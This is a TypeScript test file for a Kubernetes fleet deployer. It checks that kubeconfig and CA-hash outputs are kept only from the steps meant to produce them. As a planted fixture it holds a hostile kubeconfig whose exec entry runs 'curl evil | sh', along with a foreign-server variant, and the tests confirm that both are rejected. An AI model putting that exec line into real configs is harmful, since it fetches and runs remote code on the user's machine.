import { describe, expect, it } from 'vitest';
import { waitForRunEnd } from '../sim/sim-coordinator.ts';
import { simKubeconfig, simScript } from '../sim/sim-fleet.ts';
import { simFleetPerTest } from '../sim/sim-test-state.ts';

const t = simFleetPerTest();

const planted = `apiVersion: v1
kind: Config
clusters:
- cluster: { server: 'https://10.10.255.100:16443' }
  name: c
users:
- name: admin
  user:
    exec: { apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: ['-c', 'curl evil | sh'] }
`;
const foreign = simKubeconfig.replace('https://10.10.255.100:16443', 'https://203.0.113.9:6443');
const fakeHash = `sha256:${'e'.repeat(64)}`;

async function deployWith(name: string, outputs: (kind: string, node: string) => Record<string, string> | undefined) {
  const { sim, ...fleet } = await t.startFleet({
    name,
    controlPlanes: 1,
    workers: 1,
    script: simScript({}, (step) => {
      const o = outputs(step.kind, step.node);
      return o ? { outputs: o } : undefined;
    }),
  });
  await sim.api.request('POST', '/v1/clusters', fleet.spec);
  const run = await sim.api.request<{ id: string }>('POST', `/v1/clusters/${name}/runs`, { kind: 'deploy' });
  const done = await waitForRunEnd(sim.api, run.id);
  const messages = sim.coordinator.store.events.after(run.id, 0, 10_000).map((e) => e.message);
  const kubeconfig = await sim.api
    .request<{ kubeconfig: string }>('GET', `/v1/clusters/${name}/kubeconfig`)
    .then((r) => r.kubeconfig)
    .catch((error: { status?: number }) => `HTTP ${error.status}`);
  return { done, messages, kubeconfig, fleet };
}

describe('outputs trusted only from the step that makes them', () => {
  it('GIVEN a worker agent that reports a kubeconfig with an exec entry and a CA hash on its host-prep step THEN neither is kept, and a warning names the step', async () => {
    const { done, messages, kubeconfig } = await deployWith('plant-a', (kind, node) =>
      kind === 'host-prep' && node === 'w1' ? { kubeconfig: planted, caCertHash: fakeHash } : undefined,
    );
    expect(done.state).toBe('succeeded');
    // The honest init's kubeconfig is served; the planted one never was.
    expect(kubeconfig).toBe(simKubeconfig);
    expect(t.sim!.coordinator.store.clusterValues.get('plant-a', 'ca-cert-hash')?.value).not.toBe(fakeHash);
    expect(messages).toContainEqual(
      'warning: host-prep/w1 on w1 reported output kubeconfig: only kubeadm-init and certs-renew report kubeconfig, not host-prep; not kept',
    );
    expect(messages).toContainEqual(
      'warning: host-prep/w1 on w1 reported output caCertHash: only kubeadm-init reports caCertHash, not host-prep; not kept',
    );
    const hostPrep = t.sim!.coordinator.store.steps.list(done.id).find((s) => s.id === 'host-prep/w1');
    expect(hostPrep?.outputs).toEqual({});
  });

  it.each([
    ['an exec entry', planted, /user admin has exec, which kubeha never writes/],
    ['a foreign server', foreign, /its server https:\/\/203\.0\.113\.9:6443 is not the cluster's endpoint/],
  ])(
    'GIVEN kubeadm-init reporting a kubeconfig with %s THEN it is refused and GET kubeconfig is a 404',
    async (_l, text, why) => {
      const { done, messages, kubeconfig } = await deployWith('plant-b', (kind) =>
        kind === 'kubeadm-init' ? { caCertHash: `sha256:${'a'.repeat(64)}`, kubeconfig: text } : undefined,
      );
      expect(done.state).toBe('succeeded');
      expect(kubeconfig).toBe('HTTP 404');
      expect(
        messages.some(
          (m) => m.startsWith('warning: kubeadm-init/cp1 on cp1 reported output kubeconfig:') && why.test(m),
        ),
      ).toBe(true);
    },
  );
});
